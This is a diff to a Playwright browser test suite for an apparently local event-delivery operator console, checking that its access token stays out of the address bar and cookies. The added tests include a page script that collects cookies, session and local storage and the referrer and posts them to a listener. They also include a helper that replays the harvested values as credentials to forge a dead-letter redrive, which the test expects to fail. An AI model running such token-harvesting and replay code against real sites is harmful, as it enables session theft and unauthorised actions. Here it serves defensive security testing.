@@ -1,12 +1,18 @@
 import { mkdir } from "node:fs/promises";
+import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
 import { dirname, join } from "node:path";
 import { type Browser, chromium, type Page } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { createTargetBreakers } from "../../lib/app/target-breakers.js";
+import { NO_TOKEN_ID, SHELL_ID } from "../../lib/console/console-script.js";
+import { FORM_TOKEN_FIELD } from "../../lib/console/page-layout.js";
+import { CONSOLE_TOKEN_HEADER } from "../../lib/console/request-guard.js";
 import { DEFAULT_BREAKER_SETTINGS } from "../../lib/core/circuit-breaker.js";
 import { silentLog } from "../../lib/core/observability.js";
 import type { EventRecord } from "../../lib/core/record.js";
 import { PROJECT_ROOT } from "../../lib/infra/bundling.js";
+import { consoleTokenOf } from "../support/console-client.js";
 import { ANA_CALLER } from "../support/counting-caller-identity.js";
 import { deadLetterEvent } from "../support/dead-letter-fixture.js";
 import { anEnvelope } from "../support/factories.js";
@@ -76,9 +82,21 @@ beforeAll(async () => {
     ],
   });
   page = await browser.newPage({ viewport: { width: 1100, height: 900 } });
-  // The printed address: its token becomes the cookie every later page rides on.
+  // The printed address: its token goes into the tab's storage, and every later page's header.
   await page.goto(world.console.url);
+  await loaded();
 }, 60_000);
+
+/** Waits for the shell a navigation got to be replaced by the page itself. */
+const loaded = async (on: Page = page): Promise<void> => {
+  await on.locator(`#${SHELL_ID}`).waitFor({ state: "detached" });
+};
+
+/** Opens `path` as a link or a typed address does (a navigation), and waits for its page. */
+const open = async (path: string, on: Page = page): Promise<void> => {
+  await on.goto(`${world.origin}${path}`);
+  await loaded(on);
+};
 
 afterAll(async () => {
   await browser?.close();
@@ -86,8 +104,10 @@ afterAll(async () => {
 });
 
 describe("the console in a browser", () => {
-  it("opens on the events list, with the dead-lettered events counted", async () => {
-    expect(new URL(page.url()).searchParams.has("token")).toBe(false);
+  it("opens on the events list, with the dead-lettered events counted and no token in the address bar", async () => {
+    await expect.poll(() => new URL(page.url()).pathname).toBe("/events");
+    expect(new URL(page.url()).hash).toBe("");
+    expect(new URL(page.url()).search).toBe("");
     await expect
       .poll(() => page.locator('[data-status="dead_lettered"] .count').textContent())
       .toBe("2");
@@ -95,7 +115,7 @@ describe("the console in a browser", () => {
   });
 
   it("refreshes the list by itself when an event is delivered meanwhile", async () => {
-    await page.goto(`${world.origin}/events?status=delivered`);
+    await open(`/events?status=delivered`);
     const rows = page.locator("#event-list tr[data-event-id]");
     await expect.poll(() => rows.count()).toBe(1);
     await seedAttempts(world.deps.store, [
@@ -108,11 +128,13 @@ describe("the console in a browser", () => {
   it("finds an event by its id from the search form", async () => {
     await page.fill('input[name="id"]', retried.eventId);
     await page.press('input[name="id"]', "Enter");
+    await page.waitForURL((url) => url.pathname === "/event");
+    await loaded();
     await expect.poll(() => page.locator("h1").textContent()).toBe(`Event ${retried.eventId}`);
   });
 
   it("shows an event's attempts on a timeline that matches its record", async () => {
-    await page.goto(`${world.origin}/event?id=${encodeURIComponent(retried.eventId)}`);
+    await open(`/event?id=${encodeURIComponent(retried.eventId)}`);
     const items = page.locator("ol.timeline li.attempt");
     await expect.poll(() => items.count()).toBe(retried.history.length);
     for (const [index, entry] of retried.history.entries()) {
@@ -147,7 +169,7 @@ describe("the console in a browser", () => {
     });
     for (let i = 0; i < DEFAULT_BREAKER_SETTINGS.minimumCalls; i += 1)
       await breakers.recordCall(partner, true, "call", "HTTP 503: Bearer abc.def.ghi says no");
-    await page.goto(`${world.origin}/targets`);
+    await open(`/targets`);
     const row = page.locator(`tr[data-target="${partner}"]`);
     expect(await row.locator("[data-state]").getAttribute("data-state")).toBe("open");
     const text = (await row.textContent()) ?? "";
@@ -156,7 +178,7 @@ describe("the console in a browser", () => {
   });
 
   it("redrives from the dead-letter page only after a dry run and a confirmation, audited like the CLI", async () => {
-    await page.goto(`${world.origin}/dead-letters`);
+    await open(`/dead-letters`);
     await expect
       .poll(() => page.locator('section[data-reason="exhausted"] .count').textContent())
       .toBe("2");
@@ -164,7 +186,9 @@ describe("the console in a browser", () => {
     await page.fill('input[name="why"]', "partner API fixed");
     await page.click('#redrive-form button[type="submit"]');
 
-    await expect.poll(() => page.locator("tr[data-moved]").count()).toBe(2);
+    // htmx posts it (with the token's header) and puts the answer in the page's place.
+    await expect.poll(() => page.locator("tr[data-moved]").count(), { timeout: 20_000 }).toBe(2);
+    expect(new URL(page.url()).pathname).toBe("/dead-letters/redrive/job");
     expect(await page.locator("p.summary").textContent()).toContain("Dry run: 2 would move");
     for (const id of deadLettered) {
       const record = await world.deps.store.get(id);
@@ -184,7 +208,9 @@ describe("the console in a browser", () => {
       anEnvelope({ eventId: "late" }),
     );
     await page.click('#confirm-form button[type="submit"]');
-    await expect.poll(() => page.locator("p.summary").textContent()).toContain("2 moved");
+    await expect
+      .poll(() => page.locator("p.summary").textContent(), { timeout: 20_000 })
+      .toContain("2 moved");
     for (const id of deadLettered) {
       const record = await world.deps.store.get(id);
       expect(record?.redrives).toHaveLength(1);
@@ -199,9 +225,153 @@ describe("the console in a browser", () => {
     expect((await world.deps.store.get("late"))?.redrives).toEqual([]);
 
     // The redrive is on the event's own timeline too.
-    await page.goto(`${world.origin}/event?id=${encodeURIComponent(deadLettered[0] ?? "")}`);
+    await open(`/event?id=${encodeURIComponent(deadLettered[0] ?? "")}`);
     const audit = page.locator('ol.timeline li.audit[data-action="redriven"]');
     await expect.poll(() => audit.count()).toBe(1);
     expect(await audit.locator(".by").textContent()).toBe(CONSOLE_TEST_BY);
+  });
+});
+
+describe("the console in a browser, across full page loads", () => {
+  const heading = () => page.locator("h1").textContent();
+
+  it("keeps working on links, reload, back and forward, its token kept in the tab, not the address", async () => {
+    await open("/targets");
+    expect(await heading()).toBe("Targets");
+    await page.click('header a[href="/dead-letters"]');
+    await loaded();
+    expect(await heading()).toBe("Dead letters");
+    await page.reload();
+    await loaded();
+    expect(await heading()).toBe("Dead letters");
+    await page.goBack();
+    await loaded();
+    expect(await heading()).toBe("Targets");
+    await page.goForward();
+    await loaded();
+    expect(await heading()).toBe("Dead letters");
+    expect(await page.locator("#redrive-form").count()).toBe(1);
+    expect(page.url()).toBe(`${world.origin}/dead-letters`);
+  });
+
+  it("tells a tab that never opened the printed address why it gets nothing", async () => {
+    const elsewhere = await browser.newPage();
+    try {
+      await elsewhere.goto(`${world.origin}/dead-letters`);
+      await expect.poll(() => elsewhere.locator(`#${NO_TOKEN_ID}`).isVisible()).toBe(true);
+      expect(await elsewhere.locator("#redrive-form").count()).toBe(0);
+    } finally {
+      await elsewhere.close();
+    }
+  });
+});
+
+/** A request another listener heard: its headers and body. */
+interface Heard {
+  readonly headers: IncomingHttpHeaders;
+  readonly body: string;
+}
+
+/** A page that hands its listener whatever its origin can read: cookies, storage, referrer. */
+const LOOTING_PAGE = `<!doctype html><title>elsewhere</title><script>
+const loot = { cookie: document.cookie, session: Object.entries(sessionStorage),
+  local: Object.entries(localStorage), referrer: document.referrer };
+fetch("/loot", { method: "POST", body: JSON.stringify(loot) })
+  .then(() => { document.title = "looted"; });
+</script>`;
+
+/** Another listener on 127.0.0.1, as any local process may run: it keeps what it hears. */
+const startOtherListener = async (): Promise<{ server: Server; url: string; heard: Heard[] }> => {
+  const heard: Heard[] = [];
+  const server = createServer((req, res) => {
+    let body = "";
+    req.setEncoding("utf8");
+    req.on("data", (chunk: string) => {
+      body += chunk;
+    });
+    req.on("end", () => {
+      heard.push({ headers: req.headers, body });
+      res.writeHead(200, { "content-type": "text/html" });
+      res.end(req.url === "/" ? LOOTING_PAGE : "");
+    });
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, heard };
+};
+
+const HEADER_SAFE = /^[\x21-\x7e]+$/;
+
+/**
+ * What a process outside the browser can make of what it heard: every Cookie header replayed,
+ * every word of 16 characters or more tried as the console's token. With each, it reads the
+ * dead-letter page and posts a confirmed redrive of `eventId` with a fresh budget, with the
+ * page's hidden fields if it got the page. Answers how many reads got the page.
+ */
+const driveWith = async (heard: readonly Heard[], eventId: string): Promise<number> => {
+  const values = heard.flatMap((h) => [...Object.values(h.headers).flat(), h.body]);
+  const words = [...new Set(values.flatMap((v) => (v ?? "").split(/[\s;,=&"'[\]{}()]+/)))].filter(
+    (w) => w.length >= 16 && HEADER_SAFE.test(w),
+  );
+  const credentials: Record<string, string>[] = [
+    ...heard.flatMap((h) => (h.headers.cookie === undefined ? [] : [{ cookie: h.headers.cookie }])),
+    ...words.map((w) => ({ [CONSOLE_TOKEN_HEADER]: w })),
+  ];
+  let pagesRead = 0;
+  for (const headers of credentials) {
+    const response = await fetch(`${world.origin}/dead-letters`, { headers });
+    const text = await response.text();
+    const readable = response.status === 200 && text.includes('id="redrive-form"');
+    if (readable) pagesRead += 1;
+    const hidden = readable
+      ? [...text.matchAll(/<input type="hidden" name="([^"]+)" value="([^"]*)">/g)].map(
+          (m): [string, string] => [m[1] ?? "", m[2] ?? ""],
+        )
+      : [];
+    const guessed = headers[CONSOLE_TOKEN_HEADER] ?? "";
+    await fetch(`${world.origin}/dead-letters/redrive`, {
+      method: "POST",
+      headers,
+      // The guess in every token field, unless the page gave the field's value.
+      body: new URLSearchParams({
+        token: guessed,
+        [FORM_TOKEN_FIELD]: guessed,
+        ...Object.fromEntries(hidden),
+        eventIds: eventId,
+        resetAttempts: "on",
+        why: "driven from another listener",
+        confirm: "yes",
+      }),
+    });
+  }
+  return pagesRead;
+};
+
+describe("another listener on 127.0.0.1, visited after the console", () => {
+  it("gets no credential that reads the console or drives a redrive, though the token itself would", async () => {
+    const target = await deadLetterEvent(
+      world.deps.store,
+      world.deps.deadLetterQueue,
+      anEnvelope({ eventId: "refund-elsewhere" }),
+    );
+    const other = await startOtherListener();
+    try {
+      // The operator uses the console, then follows a link from another site to the listener.
+      await open("/dead-letters");
+      expect(await page.locator("#redrive-form").count()).toBe(1);
+      await page.goto(other.url, { referer: "https://news.example/" });
+      await expect.poll(() => page.title()).toBe("looted");
+      expect(other.heard.length).toBeGreaterThanOrEqual(2);
+
+      expect(await driveWith(other.heard, target.eventId)).toBe(0);
+      expect((await world.deps.store.get(target.eventId))?.redrives).toEqual([]);
+
+      // The same attack with the printed token in hand reads the page and moves the event: had
+      // the listener been handed a working credential, the checks above would have failed.
+      const token = consoleTokenOf(world.console.url);
+      expect(await driveWith([{ headers: {}, body: token }], target.eventId)).toBe(1);
+      expect((await world.deps.store.get(target.eventId))?.redrives).toHaveLength(1);
+    } finally {
+      await new Promise((resolve) => other.server.close(resolve));
+    }
   });
 });
